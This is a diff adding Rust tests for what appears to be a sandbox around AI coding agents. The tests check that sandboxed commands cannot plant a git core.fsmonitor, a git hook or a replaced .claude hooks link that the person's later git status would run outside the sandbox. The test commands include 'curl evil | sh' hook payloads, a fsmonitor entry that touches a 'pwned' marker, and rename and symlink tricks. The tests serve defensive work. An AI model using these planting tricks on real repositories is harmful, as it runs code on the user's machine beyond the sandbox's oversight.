@@ -677,6 +677,8 @@ async fn roots_commands_are_born_in_their_own_pids_cgroup_and_keel_stays_out() {
             env: &[],
             hidden: &[],
             network: false,
+            pinned: &[],
+            protected: None,
             stdio: [
                 std::process::Stdio::piped(),
                 std::process::Stdio::null(),
@@ -742,4 +744,148 @@ fn release_removes_the_cgroup_made_ahead() {
         }
     }
     panic!("the cgroup made ahead was still there after `release`, ten times");
+}
+
+/// `git status` as the person runs it later, outside any sandbox, in `dir`; whether it ran a
+/// `core.fsmonitor` that touches `marker`.
+fn persons_git_status_runs(dir: &Path, marker: &Path) -> bool {
+    let _ = std::process::Command::new("git")
+        .args(["status", "--short"])
+        .current_dir(dir)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output();
+    marker.exists()
+}
+
+/// Issue 50.1: a control directory recognised by its name at one moment. A command that
+/// renames a repository's directory and copies it back, or replaces a link leading to a
+/// control directory, or plants a repository of its own, must not leave a `core.fsmonitor`
+/// or a hook that the person's next `git status` runs outside the sandbox.
+#[tokio::test]
+async fn a_control_directory_moved_replaced_or_planted_never_runs_outside() {
+    let f = fixture();
+    let marker = f.outside.join("pwned");
+    let plant = format!(
+        "printf '[core]\\n\\tfsmonitor = touch {}\\n'",
+        marker.display()
+    );
+    std::fs::create_dir_all(f.ws.join("vendor/lib")).expect("mkdir");
+    host_git(&f.ws.join("vendor/lib"), &["init", "-q"]);
+    let config_before = std::fs::read(f.ws.join("vendor/lib/.git/config")).expect("config");
+    // Claude Code's hooks behind a link, as a repository may keep them.
+    std::fs::create_dir_all(f.ws.join("tooling/claude/hooks")).expect("mkdir");
+    std::fs::write(f.ws.join("tooling/claude/hooks/post.sh"), "echo ok\n").expect("write");
+    std::os::unix::fs::symlink("tooling/claude", f.ws.join(".claude")).expect("link");
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+
+    // The rename trick on a nested repository and on the root's `.claude`: the parents of a
+    // control directory are mount points, so neither moves.
+    let out = sh(
+        &f.ws,
+        &c,
+        &format!(
+            "mv vendor/lib vendor/lib-old && cp -a vendor/lib-old vendor/lib && {plant} >> \
+             vendor/lib/.git/config"
+        ),
+        10,
+    )
+    .await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert!(out.output.contains("busy"), "{out:?}");
+    assert_eq!(
+        std::fs::read(f.ws.join("vendor/lib/.git/config")).expect("config"),
+        config_before
+    );
+    assert!(!f.ws.join("vendor/lib-old").exists());
+    assert!(!persons_git_status_runs(&f.ws.join("vendor/lib"), &marker));
+    // Sources beside it stay writable, and the directory itself keeps its place.
+    let out = sh(
+        &f.ws,
+        &c,
+        "echo x > vendor/lib/a.rs && cat vendor/lib/a.rs",
+        10,
+    )
+    .await;
+    assert_eq!(out.output, "x\n", "{out:?}");
+
+    // Where a link leads is held as firmly: the parents of the real place do not move either.
+    let out = sh(
+        &f.ws,
+        &c,
+        "mv tooling tooling2 && cp -a tooling2 tooling && echo evil > \
+         tooling/claude/hooks/post.sh",
+        10,
+    )
+    .await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert!(!f.ws.join("tooling2").exists(), "{out:?}");
+
+    // A link on the way to a control directory is a name, not a mount point: replaced, it is
+    // put back and what the command made is set aside.
+    let out = sh(
+        &f.ws,
+        &c,
+        "rm .claude && mkdir -p .claude/hooks && echo 'curl evil | sh' > .claude/hooks/post.sh",
+        10,
+    )
+    .await;
+    assert!(out.note.contains("set aside"), "{out:?}");
+    assert_eq!(
+        std::fs::read_link(f.ws.join(".claude")).expect("the link is back"),
+        Path::new("tooling/claude")
+    );
+    assert_eq!(
+        std::fs::read_to_string(f.ws.join(".claude/hooks/post.sh")).expect("hook"),
+        "echo ok\n"
+    );
+
+    // A repository the command made itself, with a planted fsmonitor or hook: set aside.
+    for (what, line) in [
+        (
+            "planted config",
+            format!("git init -q planted && {plant} >> planted/.git/config"),
+        ),
+        (
+            "planted hook",
+            "git init -q planted && printf '#!/bin/sh\\ncurl evil|sh\\n' > \
+             planted/.git/hooks/pre-commit"
+                .to_owned(),
+        ),
+        (
+            "gitdir file",
+            format!(
+                "mkdir -p planted evil && git init -q --bare evil && {plant} >> evil/config && \
+                 echo 'gitdir: ../evil' > planted/.git"
+            ),
+        ),
+    ] {
+        let out = sh(&f.ws, &c, &line, 10).await;
+        assert_eq!(out.exit_code, Some(0), "{what}: {out:?}");
+        assert!(out.note.contains("set aside"), "{what}: {out:?}");
+        assert!(
+            !f.ws.join("planted/.git").exists(),
+            "{what}: the planted control directory is still in place"
+        );
+        assert!(
+            !persons_git_status_runs(&f.ws.join("planted"), &marker),
+            "{what}: the person's git status ran the planted command"
+        );
+        std::fs::remove_dir_all(f.ws.join("planted")).expect("clean");
+        let _ = std::fs::remove_dir_all(f.ws.join("evil"));
+    }
+
+    // A repository as git makes it is kept, and read-only from the next command on.
+    let out = sh(
+        &f.ws,
+        &c,
+        "git init -q fresh && git -C fresh status --short",
+        10,
+    )
+    .await;
+    assert_eq!(out.exit_code, Some(0), "{out:?}");
+    assert!(out.note.is_empty(), "{out:?}");
+    assert!(f.ws.join("fresh/.git/config").is_file());
+    let out = sh(&f.ws, &c, &format!("{plant} >> fresh/.git/config"), 10).await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert!(!persons_git_status_runs(&f.ws.join("fresh"), &marker));
 }
